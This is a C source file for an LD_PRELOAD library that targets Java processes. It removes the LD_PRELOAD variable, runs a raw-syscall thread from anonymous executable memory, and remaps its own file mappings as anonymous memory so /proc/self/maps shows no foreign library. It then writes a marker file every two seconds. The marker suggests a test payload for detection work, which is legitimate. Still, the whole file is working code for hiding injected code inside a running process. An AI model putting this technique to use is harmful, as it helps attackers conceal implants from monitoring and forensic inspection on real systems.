/* Payload that leaves no file mapping: its constructor copies a self-contained routine into anonymous
   executable memory and starts a thread on it; the routine replaces the library's own file mappings by
   anonymous memory holding the same bytes (so /proc/self/maps names no foreign file, and the dynamic
   linker's structures stay valid), then keeps writing a marker file every 2 s from inside the JVM. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <link.h>
#include <dlfcn.h>
struct ctx { long lo, hi, nseg; long seg[16][2]; char path[64]; char msg[64]; long msglen; };
static inline long sc6(long n, long a, long b, long c, long d, long e, long f) {
  long r; register long r10 __asm__("r10") = d; register long r8 __asm__("r8") = e; register long r9 __asm__("r9") = f;
  __asm__ volatile("syscall":"=a"(r):"a"(n),"D"(a),"S"(b),"d"(c),"r"(r10),"r"(r8),"r"(r9):"rcx","r11","memory"); return r; }
__attribute__((noinline, optimize("O1"), no_stack_protector)) static void *body(void *p) {
  struct ctx *c = p; long ts[2] = {1, 0};
  sc6(SYS_nanosleep, (long)ts, 0, 0, 0, 0, 0);
  long size = c->hi - c->lo;
  volatile char *tmp = (char *)sc6(SYS_mmap, 0, size, 3, 0x22, -1, 0);
  for (long s = 0; s < c->nseg; s++) for (long a = c->seg[s][0]; a < c->seg[s][1]; a++) tmp[a - c->lo] = *(volatile char *)a;
  sc6(SYS_mmap, c->lo, size, 7, 0x32, -1, 0);   /* PROT rwx, MAP_PRIVATE|MAP_ANONYMOUS|MAP_FIXED */
  for (long s = 0; s < c->nseg; s++) for (long a = c->seg[s][0]; a < c->seg[s][1]; a++) *(volatile char *)a = tmp[a - c->lo];
  sc6(SYS_munmap, (long)tmp, size, 0, 0, 0, 0);
  for (;;) {
    long fd = sc6(SYS_open, (long)c->path, 01 | 0100 | 02000, 0644, 0, 0, 0);
    if (fd >= 0) { sc6(SYS_write, fd, (long)c->msg, c->msglen, 0, 0, 0); sc6(SYS_close, fd, 0, 0, 0, 0, 0); }
    ts[0] = 2; sc6(SYS_nanosleep, (long)ts, 0, 0, 0, 0, 0);
  }
  return 0;
}
__attribute__((noinline)) static void body_end(void) { __asm__ volatile(""); }
static int is_java(void) { char exe[512] = {0}; readlink("/proc/self/exe", exe, sizeof exe - 1); return strstr(exe, "/bin/java") != NULL; }
static struct ctx *C;
static int cb(struct dl_phdr_info *i, size_t s, void *d) {
  if (i->dlpi_addr != (ElfW(Addr))d) return 0;
  C->lo = -1;
  for (int k = 0; k < i->dlpi_phnum; k++) if (i->dlpi_phdr[k].p_type == PT_LOAD && C->nseg < 16) {
    long a = i->dlpi_addr + i->dlpi_phdr[k].p_vaddr, b = a + i->dlpi_phdr[k].p_memsz;
    a &= ~4095L; b = (b + 4095) & ~4095L;
    C->seg[C->nseg][0] = a; C->seg[C->nseg][1] = b; C->nseg++;
    if (C->lo < 0 || a < C->lo) C->lo = a; if (b > C->hi) C->hi = b; }
  return 1;
}
__attribute__((constructor)) static void init(void) {
  if (!is_java()) return;
  unsetenv("LD_PRELOAD");
  char *mem = mmap(0, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  C = (struct ctx *)(mem + 4096); memset(C, 0, sizeof *C);
  Dl_info di; dladdr((void *)init, &di);
  dl_iterate_phdr(cb, di.dli_fbase);
  memcpy(mem, (void *)body, (char *)body_end - (char *)body);
  snprintf(C->path, sizeof C->path, "/tmp/hidden-%d", (int)getpid());
  C->msglen = snprintf(C->msg, sizeof C->msg, "hidden foreign code alive in the cabinet's JVM\n");
  pthread_t t; pthread_attr_t at; pthread_attr_init(&at); pthread_attr_setdetachstate(&at, PTHREAD_CREATE_DETACHED);
  pthread_create(&t, &at, (void *(*)(void *))mem, C);
}
